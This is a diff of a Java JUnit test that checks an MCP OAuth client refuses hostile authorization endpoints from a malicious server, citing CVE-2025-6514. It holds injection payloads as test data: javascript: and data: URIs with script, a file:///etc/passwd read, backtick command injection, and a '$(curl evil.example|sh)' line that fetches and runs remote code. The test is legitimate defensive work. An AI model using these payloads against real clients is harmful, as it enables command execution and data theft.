@@ -2,6 +2,7 @@ package dev.mcpoauth.cookbook.keycloakdcr;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import static org.junit.jupiter.params.provider.Arguments.argumentSet;
 
 import dev.mcpoauth.cookbook.keycloakdcr.authorization.AuthorizationUserAgent;
 import dev.mcpoauth.cookbook.keycloakdcr.authorization.RedirectFetchingUserAgent;
@@ -12,11 +13,13 @@ import java.net.URI;
 import java.util.List;
 import java.util.concurrent.atomic.AtomicInteger;
 import java.util.function.Function;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.ValueSource;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
 
 /**
  * A malicious or broken MCP server hands the client bad metadata. The client must refuse each
@@ -41,18 +44,23 @@ class HostileMetadataTest {
         server.close();
     }
 
+    static Stream<Arguments> dangerousEndpoints() {
+        return Stream.of(
+                argumentSet("a javascript: URI", "javascript:alert(document.cookie)"),
+                argumentSet("a javascript: URI in mixed case", "JaVaScRiPt:alert(1)"),
+                argumentSet("a javascript: URI after a leading space", " javascript:alert(1)"),
+                argumentSet("a file: URI", "file:///etc/passwd"),
+                argumentSet("a data: URI with a script", "data:text/html,<script>alert(1)</script>"),
+                argumentSet("a shell command substitution in the query", "https://auth.example/authorize?x=$(curl evil.example|sh)"),
+                argumentSet("shell backticks in the path", "https://auth.example/authorize`touch /tmp/pwned`"),
+                argumentSet("a NUL byte in the path", "https://auth.example/authorize\u0000.evil"),
+                argumentSet("a program name, no URL at all", "calc.exe"),
+                argumentSet("plain http off loopback", "http://auth.example.com/authorize"));
+    }
+
+    /** CVE-2025-6514: an authorization_endpoint the client would hand to a shell or a browser. */
     @ParameterizedTest
-    @ValueSource(strings = {
-            "javascript:alert(document.cookie)",
-            "JaVaScRiPt:alert(1)",
-            " javascript:alert(1)",
-            "file:///etc/passwd",
-            "data:text/html,<script>alert(1)</script>",
-            "https://auth.example/authorize?x=$(curl evil.example|sh)",
-            "https://auth.example/authorize`touch /tmp/pwned`",
-            "https://auth.example/authorize\u0000.evil",
-            "calc.exe",
-            "http://auth.example.com/authorize"})
+    @MethodSource("dangerousEndpoints")
     void refusesADangerousAuthorizationEndpoint(String endpoint) {
         server.serverMetadata(m -> m.put("authorization_endpoint", endpoint));
 
